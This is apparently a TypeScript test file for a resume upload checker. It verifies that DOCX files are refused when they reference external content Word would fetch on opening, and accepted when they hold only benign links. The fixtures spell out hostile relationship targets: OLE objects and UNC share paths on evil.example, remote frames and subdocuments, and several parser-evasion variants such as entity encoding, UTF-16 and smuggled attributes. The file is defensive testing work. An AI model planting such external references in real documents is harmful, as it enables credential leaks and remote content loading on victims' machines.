import { describe, expect, test } from "vitest";

import { detectResumeKind } from "./check-resume.ts";
import {
  DOCX_ENTRIES,
  externalRelationshipOf,
  relationshipsOf,
  utf16,
  withContent,
  zipOf,
  type ZipEntry,
} from "#tests/fixtures/resume-files.ts";

const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

describe("a DOCX has nothing that Word fetches when it is opened", () => {
  const external = (type: string, target: string, part = "document") =>
    externalRelationshipOf(`${OFFICE}/${type}`, target, `word/_rels/${part}.xml.rels`);
  const object = external("oleObject", "mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html");
  const link = external("hyperlink", "https://github.example/priya?a=1&amp;b='2'");
  const detectWith = (entry: ZipEntry) => detectResumeKind(new Blob([new Uint8Array(zipOf([...DOCX_ENTRIES, entry]))]));

  test.each<[string, ZipEntry]>([
    ["an object", object],
    ["an object behind a header", external("oleObject", "https://evil.example/a", "header1")],
    ["an object of the settings, of an unknown kind", external("somethingNew", "https://a.example", "settings")],
    ["another document", external("subDocument", "\\\\evil.example\\share\\a.docx")],
    ["a piece of another format", external("aFChunk", "https://evil.example/a.html", "footnotes")],
    ["a frame", external("frame", "https://evil.example", "webSettings")],
    ["a picture of a Windows server", external("image", "\\\\evil.example\\share\\p.png")],
    ["the same as an address", external("image", "file://evil.example/share/p.png")],
    ["the same behind a third slash", external("image", "file:///\\\\evil.example\\share\\p.png")],
    ["an object in single quotes", withContent(object, (xml) => xml.replaceAll('"', "'"))],
    ["an object with its attributes turned round", withContent(object, reverseAttributes)],
    [
      "an object over several lines",
      withContent(object, (xml) => xml.replaceAll(" T", "\n\tT").replaceAll("=", " =\n")),
    ],
    ["an object with a prefix", withContent(object, (xml) => xml.replaceAll("Relationship ", "r:Relationship "))],
    ["an object spelled in numbers", withContent(object, (xml) => xml.replace("External", "&#x45;xte&#114;nal"))],
    ["an object in UTF-16", utf16(object)],
    [
      "an object behind an element in numbers",
      withContent(object, (xml) => xml.replace("Target=", 'Target="&#60;a &gt;" TargetMode=')),
    ],
    [
      "an object that says twice where it is",
      withContent(object, (xml) => xml.replace("/></", ' TargetMode="Internal"/></')),
    ],
    [
      "an object that says it of another prefix",
      withContent(object, (xml) => xml.replace("Id=", 'x:TargetMode="Internal" Id=')),
    ],
    [
      "an object with a type in another attribute",
      withContent(object, (xml) => xml.replace('Id="rId1"', `Id="Type='" b="/hyperlink'"`)),
    ],
    [
      "an object with a link in its text",
      withContent(object, (xml) => xml.replace("/></", `> Type="/hyperlink"</Relationship></`)),
    ],
    [
      "an object beside a link",
      withContent(object, (xml) => xml.replace("<Relationship ", `${relationshipIn(link)}<Relationship `)),
    ],
    ["a relationship without its end", withContent(link, (xml) => xml.replace("/></", "</"))],
  ])("with %s from elsewhere it is refused", async (_, entry) => {
    expect(await detectWith(entry)).toBeNull();
  });

  test.each<[string, string, string]>([
    ["a page of HTML", OFFICE, "afchunk.htm"],
    ["a document in the strict format", "http://purl.oclc.org/ooxml/officeDocument/relationships", "/word/part.docx"],
  ])("with %s within it, whose references are not checked, it is refused", async (_, format, target) => {
    expect(await detectWith(relationshipsOf(`${format}/aFChunk`, target))).toBeNull();
  });

  test.each<[string, ZipEntry]>([
    ["a link", link],
    ["a link to a place in it", external("hyperlink", "#_Toc1")],
    ["a link to mail in a footer", external("hyperlink", "mailto:priya@example.com", "footer2")],
    [
      "a link in the strict format",
      externalRelationshipOf("http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink", "https://a.example"),
    ],
    [
      "a link that is written in another way",
      withContent(link, (xml) => reverseAttributes(xml).replace("/></", " ></Relationship></")),
    ],
    ["a picture of the web", external("image", "https://media.example/priya.jpg?a=1&amp;b=2")],
    ["a picture of the mail that it was copied from", external("image", "cid:image001.png@01DB.5F0")],
    ["a picture on the applicant's disk", external("image", "file:///C:\\Users\\Priya\\photo.jpg")],
    ["a picture of the web without encryption", external("image", "http://media.example/priya.jpg")],
    [
      "a picture that it brings along and says so",
      withContent(external("image", "media/1.png"), (xml) => xml.replace("External", "Internal")),
    ],
  ])("with %s it is taken", async (_, entry) => {
    expect(await detectWith(entry)).toBe("docx");
  });
});

function relationshipIn({ content }: ZipEntry): string {
  return /<Relationship [^>]*>/.exec(String(content))?.[0] ?? "";
}

function reverseAttributes(xml: string): string {
  return xml.replace(/(?<=<Relationship)( [^>]*)(?=\/>)/, (attributes) =>
    (attributes.match(/ \w+="[^"]*"/g) ?? []).reverse().join(""),
  );
}
